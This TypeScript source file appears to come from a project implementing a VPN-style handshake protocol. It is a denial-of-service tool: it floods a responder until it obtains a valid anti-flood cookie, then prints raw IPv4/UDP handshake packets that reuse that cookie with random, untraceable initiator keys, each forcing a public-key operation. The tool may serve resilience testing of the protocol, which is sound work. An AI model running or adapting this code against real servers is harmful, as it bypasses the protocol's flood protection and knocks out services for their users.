/**
 * Tunnel Requests with a valid cookie, as IPv4 packets for a flood: each costs the responder a
 * public-key operation, and its initiator is unknown.
 *
 *   node cookie-handshakes.ts LOCAL REMOTE PORT PUBLIC-KEY-IN-HEX COUNT
 *
 * Prints one packet a line in hexadecimal digits. The cookie comes from the responder, which is put
 * under load for it.
 */
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { encode, fromHex, hex, isMalformed } from '#base/bytes.ts';
import { ipv4 } from '#base/ip.ts';
import { initiate, openCookieReply, type PendingInitiation } from '#crypto/handshake.ts';
import { keyPairOf } from '#crypto/primitives.ts';
import { ipv4Codec } from '#wire/ip/ipv4.ts';
import { encodeUdp, PROTOCOL_UDP } from '#wire/ip/udp.ts';
import { ntmobileDatagramCodec } from '#wire/ntmobile/datagram.ts';

const [local = '', remote = '', port = '', publicKey = '', count = ''] = process.argv.slice(2);
const responder = fromHex(publicKey);
const own = keyPairOf(randomBytes(32));

function request(cookie: Uint8Array | undefined): PendingInitiation {
  const spi = randomBytes(4).readUInt32BE() & 0x0fffffff;
  const payload = {
    timestamp: BigInt(Date.now()) * 1000n,
    credential: undefined,
    options: [],
  };
  const made = initiate(own, keyPairOf(randomBytes(32)), responder, {
    ...{ spi, use: 1, suites: 3, pathId: new Uint8Array(8), payload, cookie },
  });
  if (made === undefined) throw new Error('no shared secret');
  return made;
}

const socket = createSocket('udp4');
socket.bind(0, local);
await once(socket, 'listening');
const cookie = new Promise<Uint8Array>((resolve) => {
  const { datagram, mac1 } = request(undefined);
  socket.on('message', (message) => {
    const reply = ntmobileDatagramCodec.parse(message);
    if (isMalformed(reply) || reply.type !== 'cookie-reply') return;
    const found = openCookieReply(responder, mac1, reply);
    if (found !== undefined) resolve(found);
  });
  const load = setInterval(() => {
    for (let times = 0; times < 100; times += 1) socket.send(datagram, Number(port), remote);
  }, 20);
  socket.once('close', () => clearInterval(load));
});
const found = await cookie;
const { port: sourcePort } = socket.address();
for (let made = 0; made < Number(count); made += 1) {
  const { datagram } = request(found);
  const packet = encode(ipv4Codec, {
    ...{ trafficClass: 0, identification: 0, dontFragment: true, moreFragments: false },
    ...{ fragmentOffset: 0, timeToLive: 64, protocol: PROTOCOL_UDP, options: new Uint8Array(0) },
    ...{ source: ipv4(local), destination: ipv4(remote) },
    payload: encodeUdp(ipv4(local), ipv4(remote), {
      ...{ sourcePort, destinationPort: Number(port), payload: datagram },
    }),
  });
  process.stdout.write(`${hex(packet)}\n`);
}
socket.close();
